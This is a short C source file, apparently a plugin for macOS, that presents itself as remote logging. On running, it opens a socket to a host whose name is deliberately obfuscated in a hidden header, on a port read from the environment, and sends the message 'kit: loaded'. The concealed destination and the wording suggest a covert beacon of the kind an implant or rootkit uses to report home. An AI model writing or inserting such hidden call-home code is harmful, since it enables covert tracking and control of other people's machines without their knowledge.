/* A pair of streams to a host, for a log that is kept elsewhere; the host's name is under a byte. */
#include "plugin.h"
#include "hidden.h" /* 0: the host */
extern void CFStreamCreatePairWithSocketToHost(const void *, const void *, unsigned, void **, void **);
extern const void *CFStringCreateWithCString(const void *, const char *, unsigned);
extern unsigned char CFWriteStreamOpen(void *);
extern long CFWriteStreamWrite(void *, const unsigned char *, long);
extern void CFWriteStreamClose(void *), CFRelease(const void *);
static void act(char **env) {
    void *in = 0, *out = 0;
    const void *host = CFStringCreateWithCString(0, hidden0(), 0x08000100);
    CFStreamCreatePairWithSocketToHost(0, host, port(env), &in, &out);
    if (out && CFWriteStreamOpen(out)) {
        CFWriteStreamWrite(out, (const unsigned char *)"<13>kit: loaded\n", 16);
        CFWriteStreamClose(out);
    }
    CFRelease(host);
}
